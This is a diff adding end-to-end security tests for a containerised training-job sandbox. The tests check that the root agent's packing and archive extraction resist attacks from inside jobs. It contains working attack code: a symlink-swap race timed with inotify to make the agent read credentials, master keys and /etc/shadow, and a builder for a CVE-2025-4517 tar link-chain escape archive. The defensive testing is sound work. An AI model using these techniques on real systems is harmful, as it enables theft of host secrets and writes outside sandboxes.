@@ -1,0 +1,235 @@
+"""What the agent (root) does with a job's tree, attacked from inside real jobs.
+
+The agent packs the model, uploads checkpoints and output, and empties the tree after
+a job; a job's other instances run on as the same user, so "the job is over" does not
+mean "nobody can change its tree". Each test here changes the tree under the agent's
+feet from a job's process that is still running, or hands the agent hostile archives
+and listings, and checks that nothing of the host comes out.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import tarfile
+import textwrap
+from collections.abc import Iterator
+
+import pytest
+
+from tests.e2e.test_sandbox import SERVER_SECRET, finish, job, model, output, secrets_of, why
+from tests.harness import UID, DockyardServer
+
+
+@pytest.fixture(scope="module")
+def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DockyardServer]:
+    tmp = tmp_path_factory.mktemp("tree")
+    server = DockyardServer(tmp / "data")
+    server.extra_env = {"DOCKYARD_S3_SECRET_ACCESS_KEY": SERVER_SECRET}
+    server.start()
+    for bucket in ("results", "data"):
+        (server.data_dir / "s3" / bucket).mkdir(parents=True, exist_ok=True)
+    yield server
+    server.stop()
+
+
+# algo-1 hands a descriptor of its /opt/ml to algo-2 (they share a network namespace,
+# so an abstract unix socket) and ends. algo-2, still running as the same user, waits
+# until algo-1's agent opens the first (big) file of the model's `sub` directory to pack
+# it, then swaps `sub` for a link to the data dir: the agent, still busy with that file,
+# next reads `sub/credentials`, `sub/master.key`... - through the link, if it goes by
+# path. The same for the checkpoints' `sub` and /etc (`passwd`, `shadow`).
+HANDOFF = """
+    import ctypes, os, select, socket, struct, sys, time
+    HOST = os.environ["SM_CURRENT_HOST"]
+    NAME = b"\\0dockyard-tree-attack-" + os.environ["TRAINING_JOB_NAME"].encode()
+    ATTACKS = [
+        ("model/sub", {data_dir!r}, ["credentials", "master.key", "operator.key"]),
+        ("checkpoints/sub", "/etc", ["passwd", "shadow"]),
+    ]
+
+    if HOST == "algo-1":
+        for sub, _, names in ATTACKS:
+            os.makedirs(f"/opt/ml/{{sub}}")
+            with open(f"/opt/ml/{{sub}}/a-first", "wb") as handle:
+                handle.write(os.urandom(48 * 1024 * 1024))  # packing it takes a while
+            for name in names:
+                with open(f"/opt/ml/{{sub}}/{{name}}", "w") as handle:
+                    handle.write("own")
+        tree = os.open("/opt/ml", os.O_RDONLY | os.O_DIRECTORY)
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                sock.connect(NAME)
+                break
+            except OSError:
+                sock.close()
+                assert time.monotonic() < deadline
+                time.sleep(0.05)
+        sock.sendmsg([b"t"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", tree))])
+        sock.recv(1)
+        print("handed over", flush=True)
+        sys.exit(0)
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(NAME)
+    server.listen(1)
+    conn, _ = server.accept()
+    _, ancillary, _, _ = conn.recvmsg(1, socket.CMSG_SPACE(4))
+    tree = struct.unpack("i", ancillary[0][2][:4])[0]
+    conn.sendall(b"k")
+    conn.close()
+    IN_OPEN = 0x20
+    for sub, target, _ in ATTACKS:
+        notify = libc.inotify_init1(0)
+        path = f"/proc/self/fd/{{tree}}/{{sub}}".encode()
+        if libc.inotify_add_watch(notify, path, IN_OPEN) < 0:
+            print(f"refused watching {{sub}}: {{os.strerror(ctypes.get_errno())}}", flush=True)
+        elif select.select([notify], [], [], 120)[0]:
+            os.read(notify, 4096)  # the agent opened a file in it
+        os.close(notify)
+        try:
+            os.rename(sub, sub + "-old", src_dir_fd=tree, dst_dir_fd=tree)
+            os.symlink(target, sub, dir_fd=tree)
+            print(f"swapped {{sub}}", flush=True)
+        except OSError as exc:
+            print(f"refused {{sub}}: {{exc.strerror}}", flush=True)
+"""
+
+
+def test_another_instance_cannot_turn_the_agents_walk_onto_the_host(
+    box: DockyardServer,
+) -> None:
+    client = box.client()
+    code = HANDOFF.format(data_dir=str(box.data_dir))
+    name = "handoff"
+    request = job(
+        box,
+        name,
+        code,
+        ResourceConfig={"InstanceCount": 2},
+        CheckpointConfig={"S3Uri": "s3://results/checkpoints/handoff"},
+    )
+    client.create_training_job(**request)
+    done = finish(client, name, timeout=300)
+    logs = "\n".join(output(box, name) + _host_output(box, name, "algo-2"))
+    assert "handed over" in logs, why(done) + logs
+    packed = model(box, name)
+    for secret in secrets_of(box):
+        assert not any(secret.encode() in content for content in packed.values()), logs
+    checkpoints = box.data_dir / "s3" / "results" / "checkpoints" / name
+    for path in checkpoints.rglob("*"):
+        assert not path.is_file() or b"root:" not in path.read_bytes(), (path, logs)
+    assert done["TrainingJobStatus"] == "Completed", why(done) + logs
+    assert packed["sub/credentials"] == b"own"
+    # The tree was root's before the agent read it: algo-2 could not swap anything.
+    assert "swapped" not in logs and "refused" in logs, logs
+
+
+def _host_output(server: DockyardServer, name: str, host: str) -> list[str]:
+    logs = (server.data_dir / "instances").glob(f"*-{name}-{UID}/{host}/logs/output.jsonl")
+    return [json.loads(line)["m"] for path in logs for line in path.read_text().splitlines()]
+
+
+def _archive(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+        for info, body in members:
+            if body is not None:
+                info.size = len(body)
+                tar.addfile(info, io.BytesIO(body))
+            else:
+                tar.addfile(info)
+    return buffer.getvalue()
+
+
+def _entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = link
+    info.mode = 0o644 if kind == tarfile.REGTYPE else 0o755
+    return info
+
+
+def _link_chain_escape(ups: int, file: str) -> list[tuple[tarfile.TarInfo, bytes | None]]:
+    """CVE-2025-4517's archive: a chain of links whose resolved path is longer than the
+    system resolves, so tarfile's "data" filter (before Python 3.11.13) sees a path
+    inside the directory where the kernel then follows the links out of it; `ups`
+    levels above the extraction directory, `file` is written."""
+    comp = "d" * 247
+    steps = "abcdefghijklmnop"
+    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
+    path = ""
+    for step in steps:
+        members.append((_entry(f"{path}{comp}", tarfile.DIRTYPE), None))
+        members.append((_entry(f"{path}{step}", tarfile.SYMTYPE, comp), None))
+        path += comp + "/"
+    link = "/".join(steps) + "/" + "l" * 254
+    members.append((_entry(link, tarfile.SYMTYPE, "/".join([".."] * len(steps))), None))
+    members.append((_entry("escape", tarfile.SYMTYPE, link + "/.." * ups), None))
+    members.append((_entry(f"escape/{file}"), b"written through a link"))
+    return members
+
+
+@pytest.mark.parametrize("kind", ["plain-links", "link-chain"])
+def test_a_hostile_source_archive_writes_nothing_outside_the_code_dir(
+    box: DockyardServer, kind: str
+) -> None:
+    """The code archive is unpacked by the agent (root): links in it, then files
+    written through them, must not land anywhere but /opt/ml/code."""
+    outside = box.data_dir.parent
+    escaped = f"escaped-{kind}"
+    if kind == "plain-links":
+        members = [
+            (_entry("out", tarfile.SYMTYPE, str(outside)), None),
+            (_entry(f"out/{escaped}"), b"written through a link"),
+        ]
+    else:
+        # <data dir>/instances/<key>/algo-1/opt/ml/code: seven levels below `outside`.
+        members = _link_chain_escape(7, escaped)
+    archive = _archive([(_entry("train.py"), b"print('ran')\n"), *members])
+    path = box.data_dir / "s3" / "data" / "code" / f"{kind}.tar.gz"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(archive)
+    client = box.client()
+    name = f"hostile-{kind}"
+    request = job(box, name, "")
+    request["HyperParameters"]["sagemaker_submit_directory"] = f'"s3://data/code/{kind}.tar.gz"'
+    client.create_training_job(**request)
+    done = finish(client, name)
+    assert not (outside / escaped).exists()
+    assert done["TrainingJobStatus"] == "Failed", why(done)
+    assert "source archive" in done["FailureReason"], done["FailureReason"]
+
+
+def test_a_plain_source_archive_with_links_inside_still_runs(box: DockyardServer) -> None:
+    archive = _archive(
+        [
+            (_entry("pkg", tarfile.DIRTYPE), None),
+            (_entry("pkg/real.py"), b"VALUE = 'linked'\n"),
+            (_entry("pkg/alias.py", tarfile.SYMTYPE, "real.py"), None),
+            (_entry("again.py", tarfile.LNKTYPE, "pkg/real.py"), None),
+            (
+                _entry("train.py"),
+                textwrap.dedent(
+                    """
+                    import os
+                    from pkg.alias import VALUE
+                    from again import VALUE as AGAIN
+                    open(os.path.join(os.environ["SM_MODEL_DIR"], "v"), "w").write(VALUE + AGAIN)
+                    """
+                ).encode(),
+            ),
+        ]
+    )
+    path = box.data_dir / "s3" / "data" / "code" / "links.tar.gz"
+    path.write_bytes(archive)
+    client = box.client()
+    request = job(box, "linked-archive", "")
+    request["HyperParameters"]["sagemaker_submit_directory"] = '"s3://data/code/links.tar.gz"'
+    client.create_training_job(**request)
+    done = finish(client, "linked-archive")
+    assert done["TrainingJobStatus"] == "Completed", why(done)
+    assert model(box, "linked-archive")["v"] == b"linkedlinked"
